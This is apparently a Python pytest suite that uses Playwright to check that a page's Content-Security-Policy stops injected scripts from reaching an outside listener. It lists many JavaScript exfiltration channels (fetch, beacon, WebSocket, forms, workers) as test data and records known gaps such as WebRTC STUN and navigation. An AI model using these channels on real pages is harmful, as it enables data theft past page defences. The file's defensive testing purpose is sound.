"""What the rules of the page stop, and what they do not, judged by who listens; docs/howto/notice-hash.md says both.

The scripts here are not ours: they stand for injected code. Ours name none of these ways (tests/unit/cli).
"""

from __future__ import annotations

from collections.abc import Iterator

import httpx
import pytest
from playwright.sync_api import Browser, Page

from noticehashing import HashSite, hash_site, opened
from strangers import Stranger, stranger

IN_PAGE = {
    "fetch": "fetch(there, { method: 'POST', body: 'x', mode: 'no-cors' })",
    "request": "{ const one = new XMLHttpRequest(); one.open('POST', there); one.send('x'); }",
    "beacon": "navigator.sendBeacon(there, 'x')",
    "image": "{ const one = new Image(); one.src = there; document.body.append(one); }",
    "socket": "new WebSocket(there.replace('http', 'ws'))",
    "events": "new EventSource(there)",
    "script": "{ const one = document.createElement('script'); one.src = there; document.body.append(one); }",
    "style": "{ const one = document.createElement('link'); one.rel = 'stylesheet'; one.href = there;"
    " document.head.append(one); }",
    "prefetch": "{ const one = document.createElement('link'); one.rel = 'prefetch'; one.href = there;"
    " document.head.append(one); }",
    "frame": "{ const one = document.createElement('iframe'); one.src = there; document.body.append(one); }",
    "video": "{ const one = document.createElement('video'); one.src = there; one.load(); }",
    "font": "new FontFace('other', `url(${there})`).load()",
    "form": "{ const one = document.createElement('form'); one.action = there; one.method = 'post';"
    " document.body.append(one); one.submit(); }",
    "worker": "new Worker(there)",
}
IN_WORKER = {name: IN_PAGE[name] for name in ("fetch", "request", "socket", "events")} | {
    "import": "importScripts(there)",
    "module": "import(there)",
}


@pytest.fixture(scope="module")
def site() -> Iterator[HashSite]:
    with hash_site() as found:
        yield found


@pytest.fixture
def listening() -> Iterator[Stranger]:
    with stranger() as found:
        yield found


def tried(ways: dict[str, str], address: str) -> str:
    """A function that tries every way, each under its own path, and goes on whatever happens."""
    tries = "\n".join(
        f"try {{ const there = '{address}/{name}'; Promise.resolve({way}).catch(() => {{}}); }} catch {{}}"
        if not way.startswith("{")
        else f"try {{ const there = '{address}/{name}'; {way} }} catch {{}}"
        for name, way in ways.items()
    )
    return f"() => {{ {tries} }}"


def asked_for(listening: Stranger, ways: dict[str, str]) -> set[str]:
    return {name for name in ways if any(f"/{name} ".encode() in one for one in listening.heard)}


def test_the_page_reaches_nobody(browser: Browser, site: HashSite, listening: Stranger) -> None:
    page = opened(browser, site)
    page.evaluate(tried(IN_PAGE, listening.address))
    page.wait_for_timeout(500)
    assert listening.heard == []
    page.context.close()


def test_without_the_rules_all_these_ways_are_open(browser: Browser, listening: Stranger) -> None:
    """The test above can fail: the same scripts on a page without rules are heard."""
    ways = {name: way for name, way in IN_PAGE.items() if name not in ("form", "prefetch", "worker")}
    with hash_site(bare="/notice") as site:
        page = opened(browser, site)
        page.evaluate(tried(ways, listening.address))
        page.wait_for_timeout(700)
        assert asked_for(listening, ways) == set(ways)
        page.context.close()


def test_the_page_cannot_send_a_file_to_its_own_site_by_script(browser: Browser, site: HashSite) -> None:
    page, before = opened(browser, site), len(site.asked)
    failed = page.evaluate("fetch('/notice/send', { method: 'POST', body: 'x' }).then(() => false, () => true)")
    assert failed
    assert len(site.asked) == before
    page.context.close()


def worker_of(page: Page):  # type: ignore[no-untyped-def]
    [found] = page.workers
    return found


def test_the_worker_reaches_nobody_not_even_its_own_site(browser: Browser, site: HashSite, listening: Stranger) -> None:
    page, before = opened(browser, site), len(site.asked)
    worker_of(page).evaluate(tried(IN_WORKER, listening.address))
    worker_of(page).evaluate(tried(IN_WORKER, site.address))
    page.wait_for_timeout(500)
    assert listening.heard == []
    assert len(site.asked) == before
    page.context.close()


def test_a_worker_served_without_the_header_would_reach_anybody(browser: Browser, listening: Stranger) -> None:
    """Why the header stands on every file: a worker has rules of its own, not its page's."""
    with hash_site(bare="/files/notice-worker.js") as site:
        page = opened(browser, site)
        worker_of(page).evaluate(tried(IN_WORKER, listening.address))
        assert listening.hears(b"/fetch ")
        page.context.close()


def test_every_answer_carries_rules_workers_included(browser: Browser, site: HashSite) -> None:
    opened(browser, site).context.close()
    asked = set(site.asked)
    assert {"/files/notice-hash.js", "/files/notice-worker.js"} <= asked
    for path in asked:
        rules = httpx.get(site.address + path).headers["content-security-policy"]
        assert "default-src 'none'" in rules, path


def test_no_text_becomes_code(browser: Browser, site: HashSite) -> None:
    page = opened(browser, site)
    inside = "() => { try { return (0, eval)('1') } catch (err) { return err.name } }"
    page.evaluate(f"() => {{ const one = {inside}; window.told = one; }}")
    assert page.evaluate("() => new Promise((resolve) => setTimeout(() => resolve(window.told())))") == "EvalError"
    page.context.close()


STUN = """(port) => { const one = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
  one.createDataChannel('x'); one.createOffer().then((offer) => one.setLocalDescription(offer)); }"""


def test_what_the_rules_do_not_stop_is_known(browser: Browser, site: HashSite, listening: Stranger) -> None:
    """WebRTC, leaving the page, and asking its own site for a script: the guide says so. Should this fail, browsers got
    better, and so may the guide."""
    page = opened(browser, site)
    page.evaluate("import('/files/told.js').catch(() => {})")
    assert site.asked[-1] == "/files/told.js"
    page.evaluate(STUN, listening.port)
    by_webrtc = listening.hears(b"udp")
    page.evaluate("there => { location = there + '/left' }", listening.address)
    assert listening.hears(b"/left ")
    assert by_webrtc
    page.context.close()
